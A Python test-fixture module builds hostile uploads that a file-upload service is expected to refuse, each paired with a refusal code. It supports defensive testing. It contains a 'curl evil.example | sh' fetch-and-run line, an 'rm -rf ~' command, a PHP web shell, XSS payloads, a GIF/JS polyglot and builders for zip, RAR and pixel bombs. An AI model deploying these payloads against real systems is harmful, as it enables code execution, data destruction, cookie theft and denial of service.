"""Hostile uploads the files service must refuse, each with the refusal code it gets.

Built from the real samples (``samples``) or byte by byte where no library writes a lie.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from support.samples import fixture, sample

# --- hostile building blocks -----------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, extra: bytes = b"") -> bytes:
    """A PNG that declares ``width`` x ``height`` with one tiny compressed row: a pixel bomb."""
    header = _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    pixels = _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
    return b"\x89PNG\r\n\x1a\n" + header + extra + pixels + _png_chunk(b"IEND", b"")


def _png_with_text(text: bytes) -> bytes:
    real = sample("png")
    chunk = _png_chunk(b"tEXt", b"Comment\x00" + text)
    end_of_header = 8 + 25  # signature, then IHDR (length, type, 13 bytes, CRC)
    return real[:end_of_header] + chunk + real[end_of_header:]


def _jpeg_with_comment(comment: bytes) -> bytes:
    real = sample("jpeg")
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return real[:2] + segment + real[2:]


def _jpeg_resized(width: int, height: int) -> bytes:
    real = bytearray(sample("jpeg"))
    sof = real.index(b"\xff\xc0")  # baseline frame header: length, precision, height, width
    real[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(real)


def _gif_js_polyglot() -> bytes:
    """GIF89a whose width bytes open a JS comment that a comment extension closes: valid GIF and JS."""
    screen = b"/*" + struct.pack("<H", 10) + b"\x00\x00\x00"
    payload = b"*/=alert(document.domain);//"
    comment = b"\x21\xfe" + bytes([len(payload)]) + payload + b"\x00"
    image = b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\x00" + b"\x02\x02\x44\x01\x00"
    return b"GIF89a" + screen + comment + image + b"\x3b"


def _gif_screen(width: int, height: int) -> bytes:
    real = bytearray(sample("gif"))
    real[6:10] = struct.pack("<HH", width, height)
    return bytes(real)


def _pdf_with_html() -> bytes:
    real = sample("pdf")
    first_line = real.index(b"\n") + 1
    return (
        real[:first_line]
        + b"%<html><body><script>alert(document.cookie)</script></body></html>\n"
        + real[first_line:]
    )


def _pe() -> bytes:
    """The start of a Windows PE executable: DOS header, stub, e_lfanew -> "PE\\0\\0" and a COFF header."""
    dos = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(46))
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    body = bytes(dos) + stub
    body += bytes(0x80 - len(body))
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 0xF0, 0x22)
    return body + coff + bytes(512)


def _elf() -> bytes:
    ident = b"\x7fELF\x02\x01\x01" + bytes(9)
    return (
        ident
        + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
        + bytes(256)
    )


def _macho() -> bytes:
    return struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + bytes(256)


# --- zips, byte by byte (the zipfile module refuses to write lies) ----------------------------------


@dataclass(frozen=True)
class _Member:
    name: bytes
    data: bytes  # as stored
    size: int  # declared expanded size
    crc: int = 0
    method: int = 0


def _zip_raw(members: list[_Member], records: list[tuple[bytes, _Member, int, int]] | None = None) -> bytes:
    """Local headers for ``members``, then a central directory: one record per member, or ``records``
    ((name, member, offset, declared compressed size)) to point entries at any bytes."""
    out = bytearray()
    offsets = []
    for member in members:
        offsets.append(len(out))
        out += struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            0,
            member.method,
            0,
            0,
            member.crc,
            len(member.data),
            member.size,
            len(member.name),
            0,
        )
        out += member.name + member.data
    if records is None:
        records = [(m.name, m, offset, len(m.data)) for m, offset in zip(members, offsets, strict=True)]
    directory = bytearray()
    for name, member, offset, compressed in records:
        directory += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            member.method,
            0,
            0,
            member.crc,
            compressed,
            member.size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        directory += name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(records), len(records), len(directory), len(out), 0)
    return bytes(out + directory + end)


def _zip_declaring(size: int) -> bytes:
    data = b"tiny but it says otherwise\n"
    return _zip_raw([_Member(b"dados.bin", data, size, zlib.crc32(data))])


def _zip_ratio() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("zeros.bin", bytes(30 * 1024 * 1024))
    return out.getvalue()


def _zip_many(count: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for number in range(count):
            archive.writestr(f"f{number}", b"")
    return out.getvalue()


def _zip_overlapping() -> bytes:
    """A quine-style bomb: many central-directory records all pointing at one compressed kernel."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = kernel.compress(bytes(1024 * 1024)) + kernel.flush()
    member = _Member(b"k", data, 1024 * 1024, zlib.crc32(bytes(1024 * 1024)), method=8)
    return _zip_raw([member], [(bytes([65 + n]), member, 0, len(data)) for n in range(20)])


def _zip_quoted_overlap() -> bytes:
    """The first entry's stored data quotes the second entry's local header: b.txt lies inside a.txt."""
    inner = _Member(b"b.txt", b"second\n", 7, zlib.crc32(b"second\n"))
    quoted = _zip_raw([inner])[: 30 + 5 + 7]
    outer = _Member(b"a.txt", quoted, len(quoted), zlib.crc32(quoted))
    return _zip_raw([outer], [(b"a.txt", outer, 0, len(quoted)), (b"b.txt", inner, 30 + 5, 7)])


def _zip_with(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _docx_without_document() -> bytes:
    with zipfile.ZipFile(io.BytesIO(sample("docx"))) as real:
        return _zip_with(
            {i.filename: real.read(i) for i in real.infolist() if i.filename != "word/document.xml"}
        )


def _docx_macro_enabled() -> bytes:
    with zipfile.ZipFile(io.BytesIO(sample("docx"))) as real:
        parts = {i.filename: real.read(i) for i in real.infolist()}
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return _zip_with(parts)


def _ole_renamed(data: bytes, stream: str, replacement: str) -> bytes:
    """An OLE file whose directory entry ``stream`` is renamed (same length), as if it were missing."""
    old, new = stream.encode("utf-16-le"), replacement.encode("utf-16-le")
    assert len(old) == len(new) and data.count(old) >= 1
    return data.replace(old + b"\x00\x00", new + b"\x00\x00")


# --- rars, byte by byte (no Python library writes RAR) --------------------------------------------


def _vint(value: int) -> bytes:
    out = bytearray()
    while True:
        out.append((value & 0x7F) | (0x80 if value > 0x7F else 0))
        value >>= 7
        if not value:
            return bytes(out)


def _rar5_block(fields: bytes) -> bytes:
    body = _vint(len(fields)) + fields
    return struct.pack("<I", zlib.crc32(body)) + body


def _rar5(files: list[tuple[str, bytes, int]]) -> bytes:
    """A RAR5 archive of stored files, each (name, data, declared unpacked size)."""
    out = b"Rar!\x1a\x07\x01\x00" + _rar5_block(_vint(1) + _vint(0) + _vint(0))
    for name, data, size in files:
        encoded = name.encode()
        fields = _vint(2) + _vint(0x0002) + _vint(len(data))  # file header, with a data area
        fields += _vint(0x0004) + _vint(size) + _vint(0x20) + struct.pack("<I", zlib.crc32(data))
        fields += _vint(0) + _vint(0) + _vint(len(encoded)) + encoded  # stored, Windows, name
        out += _rar5_block(fields) + data
    return out + _rar5_block(_vint(5) + _vint(0) + _vint(0))


def _rar4(files: list[tuple[str, bytes, int]]) -> bytes:
    """A RAR 2.9-4.x archive of stored files, each (name, data, declared unpacked size)."""

    def block(kind: int, flags: int, rest: bytes) -> bytes:
        header = struct.pack("<BHH", kind, flags, 7 + len(rest)) + rest
        return struct.pack("<H", zlib.crc32(header) & 0xFFFF) + header

    out = b"Rar!\x1a\x07\x00" + block(0x73, 0, bytes(6))
    for name, data, size in files:
        encoded = name.encode()
        rest = struct.pack(
            "<IIBIIBBHI", len(data), size & 0xFFFFFFFF, 2, zlib.crc32(data), 0, 29, 0x30, len(encoded), 0x20
        )
        rest += struct.pack("<II", 0, size >> 32) + encoded  # LHD_LARGE: the high 32 bits of both sizes
        out += block(0x74, 0x8100, rest) + data
    return out + block(0x7B, 0x4000, b"")


# --- the hostile catalogue -------------------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    """An upload the files service must refuse, and the refusal code it gets."""

    filename: str
    code: str
    build: Callable[[], bytes]


_GIB = 1024**3
_HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>\n'

HOSTILE: dict[str, Hostile] = {
    # Executables and scripts under an allowed name (double extensions included).
    "pe_as_pdf": Hostile("x.exe.pdf", "content_mismatch", _pe),
    "pe_as_docx": Hostile("contrato.docx", "content_mismatch", _pe),
    "elf_as_png": Hostile("tela.png", "content_mismatch", _elf),
    "macho_as_zip": Hostile("backup.zip", "content_mismatch", _macho),
    "shell_as_sql": Hostile("dump.sql", "content_mismatch", lambda: b"#!/bin/sh\ncurl evil.example | sh\n"),
    "shell_as_pdf": Hostile("fatura.pdf", "content_mismatch", lambda: b"#!/bin/bash\nrm -rf ~\n"),
    # Markup under an allowed name.
    "html_as_png": Hostile("tela.png", "content_mismatch", lambda: _HTML),
    "html_as_pdf": Hostile("fatura.pdf", "content_mismatch", lambda: _HTML + b"%PDF-1.4\n"),
    "svg_as_png": Hostile("logo.png", "content_mismatch", lambda: _SVG),
    "svg_as_jpg": Hostile("logo.jpg", "content_mismatch", lambda: b'<?xml version="1.0"?>\n' + _SVG),
    "xml_as_docx": Hostile(
        "relatorio.docx", "content_mismatch", lambda: b'<?xml version="1.0"?><doc>x</doc>\n'
    ),
    "html_as_sql": Hostile("dump.sql", "content_mismatch", lambda: b"\n  " + _HTML),
    "svg_as_sql": Hostile("dump.sql", "content_mismatch", lambda: _SVG),
    "xml_as_sql": Hostile("dump.sql", "content_mismatch", lambda: b'<?xml version="1.0"?><rows/>\n'),
    "php_as_sql": Hostile("dump.sql", "content_mismatch", lambda: b"<?php system($_GET['c']); ?>\n"),
    "html_utf16_as_sql": Hostile(
        "dump.sql", "content_mismatch", lambda: "\ufeff<html><body>oi</body></html>".encode("utf-16-le")
    ),
    # Polyglots: a real file of the claimed type that a sniffing browser would run as HTML or JS.
    "gif_js_polyglot": Hostile("avatar.gif", "content_mismatch", _gif_js_polyglot),
    "jpeg_html_polyglot": Hostile("foto.jpg", "content_mismatch", lambda: _jpeg_with_comment(_HTML)),
    "png_html_polyglot": Hostile("tela.png", "content_mismatch", lambda: _png_with_text(_HTML)),
    "pdf_html_polyglot": Hostile("fatura.pdf", "content_mismatch", _pdf_with_html),
    # A type that is allowed, but not the one the name claims.
    "png_as_jpg": Hostile("foto.jpg", "content_mismatch", lambda: sample("png")),
    "pdf_as_zip": Hostile("backup.zip", "content_mismatch", lambda: sample("pdf")),
    "docx_as_xlsx": Hostile("planilha.xlsx", "content_mismatch", lambda: sample("docx")),
    "doc_as_xls": Hostile("planilha.xls", "content_mismatch", lambda: sample("doc")),
    "doc_as_docx": Hostile("relatorio.docx", "content_mismatch", lambda: sample("doc")),
    "zip_as_rar": Hostile("backup.rar", "content_mismatch", lambda: sample("zip")),
    # Zip bombs.
    "zip_declared_huge": Hostile("backup.zip", "archive_too_large", lambda: _zip_declaring(4 * _GIB - 1)),
    "zip_ratio": Hostile("backup.zip", "archive_ratio", _zip_ratio),
    "zip_too_many_entries": Hostile("backup.zip", "archive_too_many_entries", lambda: _zip_many(10_001)),
    "zip_overlapping": Hostile("backup.zip", "archive_broken", _zip_overlapping),
    "zip_quoted_overlap": Hostile("backup.zip", "archive_broken", _zip_quoted_overlap),
    "zip_truncated": Hostile("backup.zip", "archive_broken", lambda: sample("zip")[:-40]),
    "docx_bomb": Hostile(
        "relatorio.docx",
        "archive_too_large",
        lambda: _zip_raw([_Member(b"word/document.xml", b"<w/>", 2 * _GIB, zlib.crc32(b"<w/>"))]),
    ),
    # RAR bombs (declared sizes are all a listing can see) and unlistable RARs.
    "rar_declared_huge": Hostile(
        "backup.rar", "archive_too_large", lambda: _rar5([("a.bin", b"x" * 100, 2**40)])
    ),
    "rar4_declared_huge": Hostile(
        "backup.rar", "archive_too_large", lambda: _rar4([("a.bin", b"x" * 100, 2**33)])
    ),
    "rar_ratio": Hostile(
        "backup.rar", "archive_ratio", lambda: _rar5([("a.bin", b"x" * 1000, 200 * 1024 * 1024)])
    ),
    "rar_too_many_entries": Hostile(
        "backup.rar", "archive_too_many_entries", lambda: _rar5([(f"f{n}", b"", 0) for n in range(10_001)])
    ),
    "rar_encrypted_headers": Hostile("backup.rar", "archive_broken", lambda: fixture("rar5-hpsw.rar")),
    "rar4_encrypted_headers": Hostile(
        "backup.rar", "archive_broken", lambda: fixture("rar3-comment-hpsw.rar")
    ),
    "rar_truncated": Hostile("backup.rar", "archive_broken", lambda: fixture("rar5-solid.rar")[:60]),
    # Pixel bombs and broken images.
    "png_pixel_bomb": Hostile("tela.png", "image_too_large", lambda: _png(50_000, 50_000)),
    "png_just_too_large": Hostile("tela.png", "image_too_large", lambda: _png(7_000, 7_000)),
    "gif_pixel_bomb": Hostile("logo.gif", "image_too_large", lambda: _gif_screen(65_535, 65_535)),
    "jpeg_pixel_bomb": Hostile("foto.jpg", "image_too_large", lambda: _jpeg_resized(65_000, 65_000)),
    "png_bad_crc": Hostile(
        "tela.png", "image_broken", lambda: sample("png")[:-20] + bytes(8) + sample("png")[-12:]
    ),
    "png_truncated": Hostile("tela.png", "image_broken", lambda: sample("png")[:60]),
    # Office files that are not what they claim.
    "docx_plain_zip": Hostile("relatorio.docx", "office_broken", lambda: sample("zip")),
    "docx_without_document": Hostile("relatorio.docx", "office_broken", _docx_without_document),
    "docx_macro_enabled": Hostile("relatorio.docx", "content_mismatch", _docx_macro_enabled),
    "doc_without_worddocument": Hostile(
        "relatorio.doc", "office_broken", lambda: _ole_renamed(sample("doc"), "WordDocument", "WordDocumenX")
    ),
    "xls_without_workbook": Hostile(
        "planilha.xls", "office_broken", lambda: _ole_renamed(sample("xls"), "Workbook", "Workbooc")
    ),
    "doc_truncated": Hostile("relatorio.doc", "office_broken", lambda: sample("doc")[:3000]),
    # Scripts that are not text, or not SQL.
    "sql_binary": Hostile("dump.sql", "not_text", lambda: b"SELECT 1;\n\x00\x01\x02\x03binary\n"),
    "sql_controls": Hostile("dump.sql", "not_text", lambda: b"SELECT 1;\n\x1b[31m\x07\x08\n"),
    "sql_random": Hostile("dump.sql", "not_text", lambda: bytes(range(256)) * 8),
    "sql_utf16_without_bom": Hostile("dump.sql", "not_text", lambda: "SELECT 1;\n".encode("utf-16-le")),
}


@functools.cache
def hostile(name: str) -> tuple[str, bytes]:
    """A hostile upload by name: (file name as the client sends it, its bytes)."""
    case = HOSTILE[name]
    return case.filename, case.build()
